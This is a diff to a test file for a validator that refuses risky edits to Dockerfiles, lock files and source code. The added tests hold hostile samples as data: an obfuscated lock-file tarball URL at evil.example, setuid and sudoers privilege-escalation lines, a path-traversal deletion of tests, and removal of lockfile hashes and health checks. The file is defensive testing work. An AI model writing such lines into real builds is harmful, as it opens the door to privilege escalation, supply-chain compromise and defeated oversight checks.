@@ -59,6 +59,10 @@ REMOVED = {
     "a variable": (DOCKER, "ENV MODE=live PORT=8000", "ENV PORT=8000"),
     "a stage": (DOCKER, "FROM python:3.11-slim\nCOPY --from=build /app /app\n", ""),
     "a CMD": (DOCKER, 'CMD ["python", "src/main.py"]\n', ""),
+    "the failing of a check of health": (DOCKER, "curl -f http", "curl http"),
+    "how often health is checked": (DOCKER, "HEALTHCHECK CMD", "HEALTHCHECK --interval=9h CMD"),
+    "files of an image": (DOCKER, "RUN pytest -q\n", "RUN rm -rf /app/tests\nRUN pytest -q\n"),
+    "files beside a cache": (DOCKER, "/var/lib/apt/lists/*", "/var/cache/../../app/tests"),
     "a shell": (DOCKER, "WORKDIR /app\n", 'WORKDIR /app\nSHELL ["/bin/true"]\n'),
 }
 
@@ -68,6 +72,53 @@ def test_nothing_is_removed_that_is_not_replaced(name: str) -> None:
     path, old, new = REMOVED[name]
 
     assert "removed" in codes(edited(path, old, new))
+
+
+@pytest.mark.parametrize("flag", ["--frozen-lockfile", "--require-hashes", "--immutable"])
+def test_a_strict_installation_stays_strict(flag: str) -> None:
+    before = f"FROM node:20\nRUN yarn install {flag}\n"
+    files = {"Dockerfile": before}
+    edit = Edit("Dockerfile", before, before.replace(f" {flag}", ""))
+
+    assert [r.says for r in refused((edit,), request(files, allowed=("Dockerfile",)))] == [
+        f"{flag} is removed and not replaced"
+    ]
+
+
+def test_npm_ci_stays_npm_ci() -> None:
+    before = "FROM node:20\nRUN npm ci\n"
+    edit = Edit("Dockerfile", before, before.replace("npm ci", "npm install"))
+
+    (found,) = refused((edit,), request({"Dockerfile": before}, allowed=("Dockerfile",)))
+
+    assert found.says == 'RUN "npm ci" is removed and not replaced'
+
+
+def test_a_digest_stays() -> None:
+    before = f"flask==2.2.2 --hash=sha256:{'a1' * 32}\n"
+    edit = Edit(NEEDS, before, "flask==2.2.2\n")
+
+    (found,) = refused((edit,), request({**FILES, NEEDS: before}))
+
+    assert found.says == 'the digest of "flask" is removed'
+
+
+def test_of_other_files_no_more_is_taken_out_than_put_in() -> None:
+    path = "api/src/main.py"
+    files = {**FILES, path: "a\nb\nc\n"}
+
+    def judge(after: str) -> list[str]:
+        edit = Edit(path, files[path], after)
+        return [r.code for r in refused((edit,), request(files, allowed=("*",)))]
+
+    assert judge("a\nx\ny\n") == []
+    assert judge("a\nx\n") == ["removed"]
+
+
+def test_an_address_in_a_lock_of_yaml_is_read_as_yaml_is() -> None:
+    lock = 'packages:\n  x:\n    tarball: "ht\\x74ps\\u003a//evil.example/x.tgz"\n'
+
+    assert codes(Edit("api/pnpm-lock.yaml", None, lock)) == {"download"}
 
 
 def test_a_test_may_only_grow() -> None:
@@ -123,6 +174,7 @@ LINES = {
         *("VOLUME /var/run/docker.sock", "RUN chmod u+s /bin/sh", "RUN chmod 4755 /bin/sh"),
         *("RUN setcap cap_net_raw+ep /x", "RUN echo 'app ALL=NOPASSWD: ALL' >> /etc/sudoers"),
         *("RUN usermod -o -u 0 app", "RUN useradd --uid 0 -m x"),
+        *("COPY --chmod=4755 x /x", "RUN install -m 4755 x /x", "RUN chmod u=rws x"),
     ],
     "secret": [
         *("RUN --mount=type=ssh ls", "RUN --mount=type=secret,id=x ls", "COPY .env /app/"),
@@ -369,6 +421,13 @@ def test_a_lock_file_names_the_index_only() -> None:
 )
 def test_what_does_not_parse_is_refused(path: str, text: str) -> None:
     assert codes(Edit(path, FILES.get(path), text)) == {"parse-error"}
+
+
+@pytest.mark.parametrize("mark", ["<<<<<<< SEARCH", ">>>>>>> REPLACE"])
+def test_marks_of_an_edit_are_not_left_in_a_file(mark: str) -> None:
+    edit = edited("api/src/main.py", "import flask\n", f"import flask\n{mark}\n")
+
+    assert codes(edit, allowed=("*",)) == {"parse-error"}
 
 
 def test_a_refusal_names_the_line() -> None:
